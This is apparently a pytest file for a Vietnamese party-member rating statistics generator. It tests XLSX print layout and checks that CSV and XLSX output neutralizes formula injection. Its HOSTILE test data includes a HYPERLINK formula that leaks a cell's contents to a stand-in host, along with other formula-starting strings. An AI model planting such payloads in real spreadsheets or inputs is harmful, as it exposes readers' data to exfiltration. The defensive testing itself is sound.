"""The XLSX statistics sheet prints as an official sheet, and no spreadsheet output turns
submitted text into a formula (issues 13 item 5 and 9)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import shutil
from pathlib import Path

import pytest

from generator.cli import main
from generator.commands.rate import statistics_for
from generator.rules import rate_year
from generator.statistics import LEVELS, year_statistics
from generator.statistics.export import neutralize, to_csv
from generator.statistics.sheet import write_xlsx
from tests.libreoffice import convert, needs_libreoffice
from tests.unit.rules.tree import SCHEMA, Tree

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = [
    '=HYPERLINK("http://x.invalid/?leak="&C8,"Bấm vào đây")',
    "+1+2",
    "-3+4",
    "@SUM(1+1)",
]  # a name starting with a tab is refused by `check` (to-chuc.schema.json): test_tab_…


def _sheet(path: Path):  # type: ignore[no-untyped-def]
    from openpyxl import load_workbook

    return load_workbook(path).active


def _texts(ws) -> list[tuple[int, int, str]]:  # type: ignore[no-untyped-def]
    return [
        (c.row, c.column, c.value)
        for row in ws.iter_rows()
        for c in row
        if isinstance(c.value, str)
    ]


def _sample_xlsx(tmp_path: Path, year: int = 2025):  # type: ignore[no-untyped-def]
    stats, _, _ = statistics_for(ROOT, year)
    out = tmp_path / f"thong-ke-{year}.xlsx"
    write_xlsx(stats, out, today=dt.date(2026, 1, 15))
    return stats, out


def test_sample_sheet_is_laid_out_for_print(tmp_path: Path) -> None:
    stats, path = _sample_xlsx(tmp_path)
    ws = _sheet(path)
    assert ws.title == "Xếp loại đảng viên 2025"
    assert ws.page_setup.orientation == "landscape"
    assert int(ws.page_setup.paperSize) == 9  # A4
    assert ws.sheet_properties.pageSetUpPr.fitToPage
    assert (ws.page_setup.fitToWidth, ws.page_setup.fitToHeight) == (1, 0)
    texts = _texts(ws)
    where = {v: (r, c) for r, c, v in texts}
    title = next(v for _, _, v in texts if "KẾT QUẢ ĐÁNH GIÁ" in v)
    assert title.endswith("NĂM 2025")
    root = stats.orgs[0]
    assert root.depth == 0 and root.members.total == stats.total.total
    assert root.name.upper() in where and f"Đơn vị: {root.name}" in where
    assert "Ngày 15 tháng 01 năm 2026" in where
    assert {"NGƯỜI LẬP BIỂU", "T/M BAN THƯỜNG VỤ"} <= set(where)
    # header rows repeat on every page and are tall enough for their wrapped labels
    h1 = where["STT"][0]
    assert ws.print_title_rows == f"${h1}:${h1 + 1}"
    assert ws.row_dimensions[h1].height >= 3 * 15 and ws.row_dimensions[h1 + 1].height >= 3 * 15
    # one total row: the root organization is that row, not a second identical one
    names = [ws.cell(r, 2).value for r in range(h1 + 2, ws.max_row + 1)]
    assert names.count("Toàn đảng bộ") == 1
    assert root.name not in names
    total = h1 + 2
    htxsnv = stats.total.by_level[LEVELS[0]]
    assert [ws.cell(total, c).value for c in (1, 2, 3, 4)] == [
        None,
        "Toàn đảng bộ",
        stats.total.total,
        htxsnv,
    ]
    # the share at the one decimal it is shown with (tests/integration/test_sheet_percentages.py)
    share = round(htxsnv / stats.total.with_level * 100, 1) / 100
    assert ws.cell(total, 5).value == pytest.approx(share, abs=1e-12)
    assert ws.cell(total, 5).number_format == "0.0%"
    # numbering per section: the tree as 1, 1.1 …; the categories start again at 1
    numbers = [(ws.cell(r, 1).value, ws.cell(r, 2).value) for r in range(total, ws.max_row + 1)]
    section_two = numbers.index(("II", "Phân theo loại hình tổ chức cơ sở đảng"))
    assert numbers[1] == ("I", "Các tổ chức đảng trực thuộc")
    tree = [n for n, _ in numbers[2:section_two]]
    children = [o for o in stats.orgs if o.depth == 1]
    assert tree[0] == "1" and [n for n in tree if "." not in n] == [
        str(i) for i in range(1, len(children) + 1)
    ]
    assert any("." in n for n in tree)  # chi bộ below a đảng bộ: 1.1, 1.2 …
    categories = [n for n, _ in numbers[section_two + 1 :]]
    categories = categories[: categories.index(None)]  # the table ends at an empty row
    assert categories == [str(i) for i in range(1, len(categories) + 1)] and categories
    # every row that holds text has a height that shows it
    for r, _, value in texts:
        if r >= h1:
            assert ws.row_dimensions[r].height, (r, value)


@needs_libreoffice
def test_sample_sheet_prints_on_one_a4_landscape_page(tmp_path: Path) -> None:
    from pypdf import PdfReader

    pdf = convert(_sample_xlsx(tmp_path)[1], "pdf", tmp_path / "pdf")
    pages = PdfReader(pdf).pages
    assert len(pages) == 1
    box = pages[0].mediabox
    width, height = float(box.width), float(box.height)
    assert width > height  # landscape
    assert (round(width / 72 * 25.4), round(height / 72 * 25.4)) == (297, 210)  # A4, in mm
    text = pages[0].extract_text()
    for words in ("BIỂU THỐNG KÊ", "NĂM 2025", "Toàn đảng bộ", "NGƯỜI LẬP BIỂU", "Trang 1/1"):
        assert words in text
    # the statistics page's columns after the levels (not the old "Chưa quyết định")
    words = " ".join(text.split())
    for heading in ("Chưa có mức", "Không xếp loại", "Cộng", "Trong đó mức dự kiến"):
        assert heading in words, heading
    assert "Chưa quyết định" not in words


@pytest.fixture
def hostile_repo(tmp_path: Path) -> Path:
    shutil.copytree(SCHEMA, tmp_path / "schema")
    t = Tree(tmp_path, 2021, "qd132-hd21")
    t.dang_bo_co_so("db", phan_loai="xa", ten=HOSTILE[0])
    for i, name in enumerate(HOSTILE[1:], start=1):
        t.chi_bo(f"cb-{i}", "db", ten=name)
        t.member(f"cb-{i}", f"dv-{i}0", "HTTNV")
    return tmp_path


def _hostile_stats(repo: Path):  # type: ignore[no-untyped-def]
    y, _ = Tree(repo, 2021, "qd132-hd21").load()
    return year_statistics(y, rate_year(y))


def test_csv_cells_that_start_a_formula_are_neutralized(hostile_repo: Path) -> None:
    rows = list(csv.DictReader(io.StringIO(to_csv(_hostile_stats(hostile_repo)))))
    names = [r["ten"] for r in rows]
    for value in HOSTILE:
        assert "'" + value in names
        assert value not in names


def test_tab_and_carriage_return_are_neutralized_too() -> None:
    """No name holds them any more (to-chuc.schema.json refuses control characters, as
    the statistics exchange file does); a CSV cell never starts with one all the same."""
    assert neutralize("\tTab đầu") == "'\tTab đầu"
    assert neutralize("\rCR đầu") == "'\rCR đầu"


@needs_libreoffice
def test_spreadsheets_open_hostile_names_as_text(hostile_repo: Path, tmp_path: Path) -> None:
    stats = _hostile_stats(hostile_repo)
    xlsx = tmp_path / "tk.xlsx"
    write_xlsx(stats, xlsx)
    # what we store: no formula anywhere
    from openpyxl import load_workbook

    stored = load_workbook(xlsx).active
    assert all(c.data_type != "f" for row in stored.iter_rows() for c in row)
    raw_csv = tmp_path / "tk-csv.csv"
    raw_csv.write_text(to_csv(stats), encoding="utf-8")
    # what LibreOffice makes of them, formulas evaluated as a reader's spreadsheet does
    opened = [
        convert(xlsx, "xlsx", tmp_path / "from-xlsx"),
        convert(
            raw_csv,
            "xlsx",
            tmp_path / "from-csv",
            infilter="CSV:44,34,76,1,,1066,false,true,false,false,false,-1,true",
        ),
    ]
    for path in opened:
        ws = load_workbook(path).active
        formulas = [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"]
        assert formulas == [], path
        values = [str(c.value) for row in ws.iter_rows() for c in row if c.value is not None]
        assert any("HYPERLINK(" in v and "leak=" in v for v in values), path
        for value in HOSTILE[1:]:
            assert any(v.endswith(value.strip()) for v in values), (path, value)


def test_stats_xlsx_without_output_writes_the_default_file_once(
    hostile_repo: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    work = hostile_repo / "out"
    work.mkdir()
    monkeypatch.chdir(work)
    assert main(["--repo", str(hostile_repo), "stats", "--format", "xlsx"]) == 0
    written = work / "thong-ke-2021.xlsx"
    assert "Đã ghi thong-ke-2021.xlsx" in capsys.readouterr().out
    before = written.read_bytes()
    assert _sheet(written).title == "Xếp loại đảng viên 2021"
    # a second run never replaces it silently
    assert main(["--repo", str(hostile_repo), "stats", "--format", "xlsx"]) == 2
    assert "không ghi đè" in capsys.readouterr().err
    assert written.read_bytes() == before


@needs_libreoffice
def test_a_long_sheet_repeats_its_header_on_every_page(tmp_path: Path) -> None:
    """A year with many organizations prints on several pages, one page wide, each page
    starting with the column headings; the signature block ends the last page."""
    from pypdf import PdfReader

    from generator.statistics import Counts, OrgStats, YearStatistics
    from generator.submissions.records import Level, OrgCategory, OrgType

    def counts(n: int) -> Counts:
        c = Counts(total=n, rated=n)
        c.by_level[Level.HTTNV] = n
        return c

    kind = OrgType.parse("chi_bo_co_so")
    orgs = [
        OrgStats("tinh", "Đảng bộ tỉnh Thử Nghiệm", kind, None, 0, counts(600), None, False)
    ] + [
        OrgStats(
            f"cb-{i}", f"Chi bộ thôn số {i}", kind, OrgCategory.XA, 1, counts(5), Level.HTTNV, False
        )
        for i in range(1, 121)
    ]
    by_category = {cat: Counts() for cat in OrgCategory}
    by_category[OrgCategory.XA] = counts(600)
    stats = YearStatistics(2025, "qd366-hd43", counts(600), orgs, by_category, counts(120))
    xlsx = tmp_path / "dai.xlsx"
    write_xlsx(stats, xlsx)
    pages = PdfReader(convert(xlsx, "pdf", tmp_path / "pdf")).pages
    assert len(pages) > 1
    texts = [p.extract_text() for p in pages]
    for n, text in enumerate(texts, start=1):
        assert "STT" in text and "Tổ chức đảng" in text and "Không xếp loại" in text, n
        assert float(pages[n - 1].mediabox.width) > float(pages[n - 1].mediabox.height)
    assert "Toàn đảng bộ" in texts[0] and "Chi bộ thôn số 120" in texts[-1]
    assert "T/M BAN THƯỜNG VỤ" in texts[-1]
    assert sum(t.count("Toàn đảng bộ") for t in texts) == 1
